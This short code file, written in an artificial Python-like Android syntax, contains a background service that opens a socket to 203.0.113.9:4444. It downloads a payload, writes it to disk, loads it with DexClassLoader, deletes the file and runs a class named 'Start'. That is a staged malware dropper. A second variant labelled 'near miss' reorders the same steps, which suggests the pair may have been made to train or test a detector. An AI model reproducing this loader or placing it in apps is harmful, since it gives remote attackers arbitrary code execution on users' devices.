permissions("INTERNET")

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        Thread(Stage(self)).start()
        return 1

class Stage(Runnable):
    context: Context
    def __init__(self, context: Context):
        self.context = context
    def run(self):
        line = DataInputStream(Socket("203.0.113.9", 4444).getInputStream())
        content = array(byte, line.readInt())
        line.readFully(content)
        self.load(content, File(self.context.getFilesDir(), "p"))
    def load(self, content: "byte[]", file: File):
        FileOutputStream(file).write(content)
        loader = DexClassLoader(file.getPath(), None, None, self.context.getClassLoader())
        file.delete()
        loader.loadClass("Start").newInstance()

# near miss: deletes the copy of last time first, and keeps what it receives as a file
class Stage(Runnable):
    context: Context
    def __init__(self, context: Context):
        self.context = context
    def run(self):
        file = File(self.context.getFilesDir(), "p")
        DexClassLoader(file.getPath(), None, None, self.context.getClassLoader()).loadClass("Start")
        file.delete()
        line = DataInputStream(Socket("203.0.113.9", 4444).getInputStream())
        content = array(byte, line.readInt())
        line.readFully(content)
        self.load(content, file)
    def load(self, content: "byte[]", file: File):
        FileOutputStream(file).write(content)
